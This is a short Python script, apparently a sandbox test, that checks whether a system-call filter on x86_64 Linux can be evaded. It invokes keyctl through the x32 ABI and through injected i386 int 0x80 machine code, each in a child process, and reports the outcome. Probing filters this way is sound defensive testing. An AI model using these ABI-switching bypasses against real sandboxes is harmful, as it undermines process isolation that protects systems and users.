# Slipping past the system-call filter through another ABI of the same kernel (x86_64):
# keyctl as an x32 call (number | 0x40000000) and as an i386 call (int 0x80). Each try runs
# in a child, which the filter may kill; we report how it ended.
import ctypes
import errno
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING = 0, -3


def x32_keyctl():
    rc = libc.syscall(0x40000000 | 250, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)
    return "ok" if rc >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")


def i386_keyctl():
    # mov eax, 288 (i386 keyctl); xor ebx, ebx; mov ecx, -3; xor edx, edx; int 0x80; ret
    code = bytes.fromhex("b820010000" "31db" "b9fdffffff" "31d2" "cd80" "c3")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    rc = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return "ok" if rc >= 0 else errno.errorcode.get(-rc, str(-rc))


def in_child(attempt):
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(write_end, attempt().encode())
        finally:
            os._exit(0)
    os.close(write_end)
    said = os.read(read_end, 100).decode()
    os.close(read_end)
    status = os.waitpid(pid, 0)[1]
    return said or ("signal %d" % os.WTERMSIG(status) if os.WIFSIGNALED(status) else "no answer")


supported = platform.machine() == "x86_64"
result = {"arch": platform.machine(), "supported": supported}
if supported:
    result["x32_keyctl"] = in_child(x32_keyctl)
    result["i386_keyctl"] = in_child(i386_keyctl)
